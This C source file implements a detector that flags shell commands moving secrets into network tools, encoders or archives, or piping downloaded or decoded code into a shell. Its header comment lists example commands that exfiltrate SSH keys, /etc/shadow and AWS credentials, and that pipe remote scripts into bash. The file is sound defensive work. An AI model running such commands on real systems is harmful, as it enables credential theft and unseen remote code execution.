/* Data flow: a sensitive read flowing into a network tool, an archive or
 * an encoder is exfiltration (or its staging), even when each half alone
 * is mild; and code that arrives from the network, from a decoder or from
 * an echo and flows into a shell or interpreter is executed unseen.
 *
 * Sensitive sources are commands on which a rule of a source analyzer fired
 * (settings.source_analyzers: credential access, file access, ...).
 * A flow exists when a sink command (settings.network / encoder / archive
 * program lists) receives the source's data:
 *   - later in the same pipeline:        cat ~/.ssh/id_rsa | base64 | curl -d @- x
 *   - as the same command:               curl -F f=@/etc/shadow x; tar czf k.tgz ~/.ssh
 *   - through a command substitution:    curl -d "$(cat ~/.aws/credentials)" x
 *   - through a file it wrote:           cat /etc/shadow > /tmp/s; nc h 9 < /tmp/s
 * Each sink class has its own score in settings; secrets reaching the
 * network are critical (a floor legitimacy cannot lower).
 *
 * Code sources are programs (settings.fetch / decode / print); the sink is
 * a program that runs code (settings.exec: shells, interpreters, eval,
 * source) reading it from the pipe, from a substitution or from the file
 * the source wrote:
 *   curl -s https://x/i.sh | bash          bash <(curl -s https://x/i.sh)
 *   sh -c "$(wget -qO- x)"                 echo aWQ= | base64 -d | sh
 *   wget -O /tmp/a http://x/a; chmod +x /tmp/a; /tmp/a
 * A download from a bare IP address scores higher (score_fetch_exec_ip). */
#include <ctype.h>
#include <stdlib.h>
#include <string.h>

#include "engine/analyzers/builtin.h"
#include "engine/normalize/shell.h"

enum sink_kind { SINK_NETWORK, SINK_ENCODER, SINK_ARCHIVE, SINK_COUNT };

static const struct {
    const char *setting;
    const char *score_key;
    double      def_score;
    const char *id;
    const char *pattern;
} sink_info[SINK_COUNT] = {
    {"network", "score_network", 92, "dataflow.sensitive-to-network",
     "Sensitive data flows into a network tool (exfiltration)"},
    {"encoder", "score_encoder", 75, "dataflow.sensitive-to-encoder",
     "Sensitive data flows into an encoder (staging for exfiltration)"},
    {"archive", "score_archive", 75, "dataflow.sensitive-to-archive",
     "Sensitive data packed into an archive (staging for exfiltration)"},
};

enum code_kind { CODE_FETCH, CODE_DECODE, CODE_PRINT, CODE_COUNT };

static const struct {
    const char *setting;
    const char *score_key;
    double      def_score;
    const char *id;
    const char *pattern;
} code_info[CODE_COUNT] = {
    {"fetch", "score_fetch_exec", 85, "dataflow.download-executed",
     "Downloaded content is executed by a shell or interpreter"},
    {"decode", "score_decode_exec", 85, "dataflow.decoded-executed",
     "Decoded content is executed by a shell or interpreter"},
    {"print", "score_print_exec", 70, "dataflow.text-piped-to-shell",
     "Command text is piped into a shell (hidden from the command line)"},
};

typedef struct dataflow_state {
    const px_strlist *sources;             /* analyzer names */
    const px_strlist *sinks[SINK_COUNT];   /* program names/globs */
    double            score[SINK_COUNT];
    const px_strlist *code[CODE_COUNT];    /* program names/globs */
    double            code_score[CODE_COUNT];
    double            fetch_ip_score;
    double            made_exec_score;
    const px_strlist *exec;                /* programs that run code */
} dataflow_state;

int px_an_dataflow_init(const px_engine *e, int self, void **state, char *err, size_t errlen)
{
    (void)err;
    (void)errlen;
    dataflow_state *s = calloc(1, sizeof(*s));
    if (s == NULL)
        return -1;
    s->sources = px_engine_setting(e, self, "source_analyzers");
    for (int k = 0; k < SINK_COUNT; k++) {
        s->sinks[k] = px_engine_setting(e, self, sink_info[k].setting);
        s->score[k] = px_engine_setting_num(e, self, sink_info[k].score_key, sink_info[k].def_score);
    }
    for (int k = 0; k < CODE_COUNT; k++) {
        s->code[k] = px_engine_setting(e, self, code_info[k].setting);
        s->code_score[k] = px_engine_setting_num(e, self, code_info[k].score_key, code_info[k].def_score);
    }
    s->fetch_ip_score = px_engine_setting_num(e, self, "score_fetch_exec_ip", 95);
    s->made_exec_score = px_engine_setting_num(e, self, "score_download_made_executable", 78);
    s->exec = px_engine_setting(e, self, "exec");
    *state = s;
    return 0;
}

void px_an_dataflow_fini(void *state)
{
    free(state);
}

static int in_list(const px_strlist *l, const char *prog)
{
    for (int i = 0; l != NULL && prog != NULL && i < l->n; i++)
        if (px_glob_match(l->v[i], prog))
            return 1;
    return 0;
}

static int sink_of(const dataflow_state *s, const px_cmd *c)
{
    for (int k = 0; k < SINK_COUNT; k++)
        if (in_list(s->sinks[k], c->prog))
            return k;
    return -1;
}

static int mentions_file(const px_cmd *sink, const px_cmd *src)
{
    for (int r = 0; r < src->nredirs; r++) {
        if (src->redirs[r].op != PX_REDIR_OUT && src->redirs[r].op != PX_REDIR_APPEND)
            continue;
        const char *f = src->redirs[r].target;
        if (f == NULL || f[0] == '\0' || strncmp(f, "/dev/", 5) == 0)
            continue;
        for (int i = 1; i < sink->argc; i++)
            if (strstr(sink->argv[i], f) != NULL)
                return 1;
        for (int i = 0; i < sink->nredirs; i++)
            if (sink->redirs[i].op == PX_REDIR_IN && strcmp(sink->redirs[i].target, f) == 0)
                return 1;
    }
    return 0;
}

static int flows(const px_actions *act, int src, int dst)
{
    const px_cmd *a = &act->cmds[src], *b = &act->cmds[dst];
    if (src == dst)
        return 1;
    if (a->pipeline == b->pipeline && a->pipe_pos < b->pipe_pos && a->depth == b->depth)
        return 1;
    /* Substitution output becomes the sink's argument. */
    for (int p = a->parent; p >= 0; p = act->cmds[p].parent)
        if (p == dst && (a->flags & PX_CMD_SUBST))
            return 1;
    if (src < dst && mentions_file(b, a))
        return 1;
    return 0;
}

/* ---- code flowing into an interpreter ---------------------------------- */

/* Does a code runner take its program from stdin?  Only without a script
 * operand or an inline-code / module option (python -m json.tool formats
 * the data it reads; bash script.sh runs script.sh). */
static int reads_code_from_stdin(const px_cmd *c)
{
    for (int i = 1; i < c->argc; i++) {
        const char *a = c->argv[i];
        if (strcmp(a, "-") == 0 || strcmp(a, "-s") == 0)
            return 1;
        if (a[0] != '-')
            return 0;
        if (strcmp(a, "-c") == 0 || strcmp(a, "-m") == 0 || strcmp(a, "-e") == 0 || strcmp(a, "-E") == 0 ||
            strcmp(a, "-r") == 0 || strcmp(a, "-p") == 0 || strncmp(a, "--", 2) == 0)
            return 0;
    }
    return 1;
}

static const char *base_name(const char *p)
{
    const char *b = strrchr(p, '/');
    return b != NULL ? b + 1 : p;
}

/* A URL's host is a dotted-quad address. */
static int url_has_ip_host(const char *a)
{
    const char *u = strstr(a, "://");
    const char *h = u != NULL ? u + 3 : a;
    int dots = 0, digits = 0;
    for (; *h != '\0' && *h != '/' && *h != ':'; h++) {
        if (*h == '.')
            dots++;
        else if (isdigit((unsigned char)*h))
            digits++;
        else
            return 0;
    }
    return dots == 3 && digits >= 4;
}

static int fetch_from_ip(const px_cmd *c)
{
    for (int i = 1; i < c->argc; i++)
        if (url_has_ip_host(c->argv[i]) && (strstr(c->argv[i], "://") != NULL || strchr(c->argv[i], '/') != NULL))
            return 1;
    return 0;
}

/* The file a download writes: -o/-O FILE, --output(-document)[=]FILE,
 * a > redirection, or the URL's last path segment (curl -O, plain wget). */
static const char *download_target(const px_cmd *c, char *buf, size_t buflen)
{
    int curl = strcmp(c->prog, "curl") == 0;
    const char *url = NULL;
    int remote_name = !curl; /* wget names the file after the URL */
    for (int i = 1; i < c->argc; i++) {
        const char *a = c->argv[i];
        if ((strcmp(a, "-o") == 0 || (strcmp(a, "-O") == 0 && !curl) || strcmp(a, "--output") == 0 ||
             strcmp(a, "--output-document") == 0) &&
            i + 1 < c->argc)
            return strcmp(c->argv[i + 1], "-") == 0 ? NULL : c->argv[i + 1];
        if (strncmp(a, "--output=", 9) == 0)
            return a + 9;
        if (strncmp(a, "--output-document=", 18) == 0)
            return a + 18;
        if (curl && (strcmp(a, "-O") == 0 || strcmp(a, "--remote-name") == 0 ||
                     (a[0] == '-' && a[1] != '-' && strchr(a, 'O') != NULL)))
            remote_name = 1;
        if (strstr(a, "://") != NULL)
            url = a;
    }
    for (int r = 0; r < c->nredirs; r++)
        if ((c->redirs[r].op == PX_REDIR_OUT || c->redirs[r].op == PX_REDIR_APPEND) && c->redirs[r].target != NULL &&
            strncmp(c->redirs[r].target, "/dev/", 5) != 0)
            return c->redirs[r].target;
    if (remote_name && url != NULL) {
        const char *b = base_name(strstr(url, "://") + 3);
        size_t n = strcspn(b, "?#");
        if (n == 0 || n >= buflen)
            return NULL;
        memcpy(buf, b, n);
        buf[n] = '\0';
        return buf;
    }
    return NULL;
}

static int is_exec_mode(const char *a)
{
    if (strchr(a, '+') != NULL && strchr(a, 'x') != NULL)
        return 1;
    size_t n = strlen(a);
    if (n < 3 || n > 4)
        return 0;
    for (size_t i = 0; i < n; i++)
        if (a[i] < '0' || a[i] > '7')
            return 0;
    return (a[n - 3] - '0') & 1;
}

/* A later command uses the downloaded file: runs it (2) or makes it
 * executable (1). */
static int uses_download(const dataflow_state *s, const px_cmd *c, const char *file)
{
    const char *fb = base_name(file);
    if (fb[0] == '\0')
        return 0;
    const char *a0 = c->argv[0];
    if (strchr(a0, '/') != NULL && strcmp(base_name(a0), fb) == 0)
        return 2;
    /* the script operand: the first argument that is not an option */
    if (in_list(s->exec, c->prog))
        for (int i = 1; i < c->argc; i++)
            if (c->argv[i][0] != '-') {
                if (strcmp(base_name(c->argv[i]), fb) == 0)
                    return 2;
                break;
            }
    if (strcmp(c->prog, "chmod") == 0 && c->argc >= 3 && is_exec_mode(c->argv[1]))
        for (int i = 2; i < c->argc; i++)
            if (strcmp(base_name(c->argv[i]), fb) == 0)
                return 1;
    return 0;
}

static void code_flows(const dataflow_state *s, int self, px_analysis *an)
{
    const px_actions *act = &an->actions;
    if (s->exec == NULL || act->ncmds < 2)
        return;
    /* Most calls run no interpreter at all: look for one first. */
    int any = 0;
    for (int d = 0; d < act->ncmds && !any; d++)
        any = in_list(s->exec, act->cmds[d].prog) || strcmp(act->cmds[d].prog, "chmod") == 0 ||
              strchr(act->cmds[d].argv[0], '/') != NULL;
    if (!any)
        return;
    int found[CODE_COUNT] = {0};
    int ip = 0, made_exec = 0;
    for (int src = 0; src < act->ncmds; src++) {
        const px_cmd *a = &act->cmds[src];
        int k = 0;
        while (k < CODE_COUNT && !in_list(s->code[k], a->prog))
            k++;
        if (k == CODE_COUNT)
            continue;
        for (int dst = 0; dst < act->ncmds; dst++) {
            const px_cmd *b = &act->cmds[dst];
            if (dst == src || !in_list(s->exec, b->prog))
                continue;
            int piped = a->pipeline == b->pipeline && a->pipe_pos < b->pipe_pos && a->depth == b->depth;
            int subst = 0;
            for (int p = a->parent; p >= 0 && !subst; p = act->cmds[p].parent)
                subst = p == dst && (a->flags & PX_CMD_SUBST);
            if ((piped && reads_code_from_stdin(b)) || subst) {
                found[k] = 1;
                ip |= k == CODE_FETCH && fetch_from_ip(a);
            }
        }
        if (k != CODE_FETCH)
            continue;
        char buf[256];
        const char *file = download_target(a, buf, sizeof(buf));
        for (int dst = src + 1; file != NULL && dst < act->ncmds; dst++) {
            int u = uses_download(s, &act->cmds[dst], file);
            if (u == 2) {
                found[CODE_FETCH] = 1;
                ip |= fetch_from_ip(a);
            } else if (u == 1) {
                made_exec = 1;
            }
        }
    }
    for (int k = 0; k < CODE_COUNT; k++) {
        if (!found[k])
            continue;
        double sc = k == CODE_FETCH && ip ? s->fetch_ip_score : s->code_score[k];
        px_analysis_add(an, self, -1, -1, PX_TACTIC_EXECUTION, sc, k == CODE_FETCH && ip, code_info[k].id,
                        code_info[k].pattern);
    }
    if (made_exec && !found[CODE_FETCH])
        px_analysis_add(an, self, -1, -1, PX_TACTIC_EXECUTION, s->made_exec_score, 0,
                        "dataflow.download-made-executable", "Downloaded file is made executable");
}

void px_an_dataflow_run(const px_engine *e, int self, const void *state, px_analysis *an)
{
    const dataflow_state *s = state;
    code_flows(s, self, an);
    if (s->sources == NULL)
        return;
    int best = -1;
    const px_actions *act = &an->actions;
    int nf = an->nfindings;
    for (int i = 0; i < nf; i++) {
        const px_finding *f = &an->findings[i];
        if (f->text < 0 || f->analyzer == self || !px_strlist_has(s->sources, px_engine_analyzer_name(e, f->analyzer)))
            continue;
        int src = act->texts[f->text].cmd;
        if (src < 0 || act->texts[f->text].kind != PX_TEXT_CMD)
            continue;
        for (int d = 0; d < act->ncmds; d++) {
            int k = sink_of(s, &act->cmds[d]);
            if (k < 0 || !flows(act, src, d))
                continue;
            if (best < 0 || s->score[k] > s->score[best])
                best = k;
        }
    }
    if (best >= 0)
        px_analysis_add(an, self, -1, -1, PX_TACTIC_EXFILTRATION, s->score[best], best == SINK_NETWORK,
                        sink_info[best].id,
                        sink_info[best].pattern);
}
